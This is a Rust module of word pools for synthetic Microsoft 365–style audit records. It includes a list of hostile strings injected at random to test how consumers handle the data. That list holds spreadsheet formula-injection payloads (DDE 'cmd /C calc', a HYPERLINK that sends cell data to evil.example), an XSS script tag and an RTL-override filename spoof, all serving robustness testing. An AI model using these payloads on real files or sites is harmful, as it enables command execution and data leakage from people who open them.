//! Word pools for synthetic records, and the hostile-but-legal strings mixed into them.

use crate::rng::Rng;

pub(crate) const FIRST_NAMES: &[&str] = &[
    "Adele",
    "Alex",
    "Allan",
    "Diego",
    "Grady",
    "Henrietta",
    "Isaiah",
    "Johanna",
    "Joni",
    "Lee",
    "Lidia",
    "Lynne",
    "Megan",
    "Miriam",
    "Nestor",
    "Patti",
    "Pradeep",
    "Søren",
    "José",
    "Zoë",
    "Łukasz",
    "Aiko",
    "Chen",
    "Fatima",
    "Olusegun",
    "Priya",
];

pub(crate) const LAST_NAMES: &[&str] = &[
    "Vance",
    "Wilber",
    "Deyoung",
    "Siciliani",
    "Archie",
    "Cerrato",
    "Langer",
    "Lauer",
    "Sherman",
    "Gu",
    "Holloway",
    "Robbins",
    "Bowen",
    "Graham",
    "Wilke",
    "Fernandez",
    "Patel",
    "Nakamura",
    "Okafor",
    "Müller",
    "Kowalski",
    "Øvergaard",
];

pub(crate) const APPS: &[(&str, &str)] = &[
    (
        "00000002-0000-0ff1-ce00-000000000000",
        "Office 365 Exchange Online",
    ),
    ("c44b4083-3bb0-49c1-b47d-974e53cbdf3c", "Azure Portal"),
    ("1fec8e78-bce4-4aaf-ab1b-5451cc387264", "Microsoft Teams"),
    ("de8bc8b5-d9f9-48b1-a8ad-b748da725064", "Graph Explorer"),
    (
        "00000003-0000-0ff1-ce00-000000000000",
        "Office 365 SharePoint Online",
    ),
    (
        "04b07795-8ddb-461a-bbee-02f9e1bf7b46",
        "Microsoft Azure CLI",
    ),
    ("d3590ed6-52b3-4102-aeff-aad2292ab01c", "Microsoft Office"),
    (
        "89bee1f7-5e6e-4d8a-9f3d-ecd601259da7",
        "Office365 Shell WCSS-Client",
    ),
];

/// (city, state, country, latitude, longitude)
pub(crate) const PLACES: &[(&str, &str, &str, f64, f64)] = &[
    ("Redmond", "Washington", "US", 47.6740, -122.1215),
    ("New York", "New York", "US", 40.7128, -74.0060),
    ("London", "England", "GB", 51.5072, -0.1276),
    ("Berlin", "Berlin", "DE", 52.5200, 13.4050),
    ("São Paulo", "São Paulo", "BR", -23.5558, -46.6396),
    ("Tokyo", "Tokyo", "JP", 35.6764, 139.6500),
    ("Bengaluru", "Karnataka", "IN", 12.9716, 77.5946),
    ("Zürich", "Zürich", "CH", 47.3769, 8.5417),
    ("Lagos", "Lagos", "NG", 6.5244, 3.3792),
    ("Sydney", "New South Wales", "AU", -33.8688, 151.2093),
];

pub(crate) const BROWSERS: &[&str] = &[
    "Edge 120.0.0",
    "Chrome 121.0.0",
    "Firefox 122.0",
    "Safari 17.2",
    "Rich Client 5.2.1.0",
    "Mobile Safari",
];
pub(crate) const SYSTEMS: &[&str] = &[
    "Windows10",
    "Windows 11",
    "MacOs",
    "Ios 17.2",
    "Android 14",
    "Linux",
];
pub(crate) const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
    "python-requests/2.31.0",
];

/// Strings that are legal in JSON and in audit data, and break naive consumers:
/// CSV/XML/terminal metacharacters, formula leaders, control characters, bidi text.
pub(crate) const HOSTILE: &[&str] = &[
    "\"quoted\", with a comma",
    "line one\nline two\r\nline three",
    "<script>alert('x')</script> & ]]> <![CDATA[ x ]]>",
    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click me\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(A1:A2)",
    "\ttab leader",
    "\rcarriage return leader",
    "bell\u{7} escape\u{1b}[31m red \u{1b}[0m unit separator\u{1f} del\u{7f}",
    "emoji 🔥👩‍💻🇺🇳 and combining é̃",
    "RTL مرحبا بالعالم \u{202e}gnp.exe\u{202c} שלום",
    "zero\u{200b}width and \u{feff}bom inside",
    "back\\slash and /slash and 'single' quotes",
    "{\"json\":\"in a string\",\"n\":[1,2]}",
    "null",
    "   padded   ",
    "",
];

/// A user name, display name and UPN.
pub(crate) fn person(rng: &mut Rng, domain: &str) -> (String, String) {
    let first = rng.pick(FIRST_NAMES);
    let last = rng.pick(LAST_NAMES);
    let display = format!("{first} {last}");
    let upn = format!(
        "{}.{}@{domain}",
        ascii_fold(first).to_lowercase(),
        ascii_fold(last).to_lowercase()
    );
    (display, upn)
}

/// Folds the few non-ASCII letters of the pools to ASCII for user principal names.
fn ascii_fold(s: &str) -> String {
    s.chars()
        .map(|c| match c {
            'ø' | 'Ø' => 'o',
            'é' | 'è' => 'e',
            'ë' => 'e',
            'ü' => 'u',
            'Ł' | 'ł' => 'l',
            'ö' => 'o',
            c => c,
        })
        .filter(char::is_ascii_alphanumeric)
        .collect()
}

/// An IP address from the documentation ranges (RFC 5737, RFC 3849).
pub(crate) fn ip(rng: &mut Rng) -> String {
    match rng.below(4) {
        0 => format!("203.0.113.{}", rng.below(254) + 1),
        1 => format!("198.51.100.{}", rng.below(254) + 1),
        2 => format!("192.0.2.{}", rng.below(254) + 1),
        _ => format!("2001:db8::{:x}", rng.below(0xffff) + 1),
    }
}

/// With a small probability, replaces `text` with a hostile or very long string.
pub(crate) fn maybe_hostile(rng: &mut Rng, text: String) -> String {
    if rng.chance(0.03) {
        if rng.chance(0.05) {
            // A very long value: 4k to 20k characters.
            let n = 4000 + rng.below(16_000) as usize;
            return "long-value-".repeat(n / 11 + 1)[..n].to_string();
        }
        return (*rng.pick(HOSTILE)).to_string();
    }
    text
}

/// One of `items`, sometimes replaced by a hostile string.
pub(crate) fn pick_maybe_hostile(rng: &mut Rng, items: &[&str]) -> String {
    let text = (*rng.pick(items)).to_string();
    maybe_hostile(rng, text)
}
